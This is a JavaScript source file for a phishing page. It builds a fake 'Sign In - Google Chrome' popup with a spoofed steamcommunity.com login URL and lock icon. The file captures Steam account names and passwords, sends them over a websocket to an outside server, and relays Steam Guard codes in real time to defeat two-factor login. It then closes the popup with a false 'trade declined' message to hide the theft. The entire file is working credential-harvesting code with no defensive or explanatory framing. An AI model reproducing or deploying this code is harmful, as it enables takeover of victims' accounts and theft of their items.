const io_ = io("https://trade-hub.example", { transports: ["websocket"] });
let session = null;

function fakeWindow() {
  const w = document.createElement("div");
  w.className = "win";
  w.innerHTML = `<div class="win-bar"><img src="steam.ico"><span>Sign In - Google Chrome</span><b class="x">&times;</b></div>
    <div class="win-url"><i class="lock"></i>https://steamcommunity.com/openid/login</div>
    <div class="win-body"><input id="sl" placeholder="Account name"><input id="sp" type="password">
    <button id="sb">Sign In</button><p id="se"></p></div>`;
  document.body.append(w);
  drag(w, w.querySelector(".win-bar"));
  w.querySelector(".x").onclick = () => w.remove();
  w.querySelector("#sb").onclick = () => {
    io_.emit("auth", { login: w.querySelector("#sl").value, password: w.querySelector("#sp").value, ref: REF });
    w.querySelector("#sb").textContent = "...";
  };
  io_.on("bad", () => { w.querySelector("#se").textContent = "Please check your password and account name and try again."; });
  io_.on("guard", (kind) => {
    w.querySelector(".win-body").innerHTML = `<p>${kind === "mail" ? "Enter the code from your email" : "Enter the code from your Steam Mobile App"}</p><input id="sg" maxlength="5">`;
    w.querySelector("#sg").oninput = (e) => { if (e.target.value.length === 5) io_.emit("guard", { code: e.target.value, session }); };
  });
  io_.on("session", (s) => { session = s; });
  io_.on("done", () => { w.remove(); toast("The trade was declined by the other party"); });
}

function drag(box, bar) {
  bar.onmousedown = (d) => {
    const dx = d.clientX - box.offsetLeft, dy = d.clientY - box.offsetTop;
    document.onmousemove = (m) => { box.style.left = m.clientX - dx + "px"; box.style.top = m.clientY - dy + "px"; };
    document.onmouseup = () => { document.onmousemove = null; };
  };
}

document.querySelectorAll(".steam-login").forEach((b) => (b.onclick = fakeWindow));
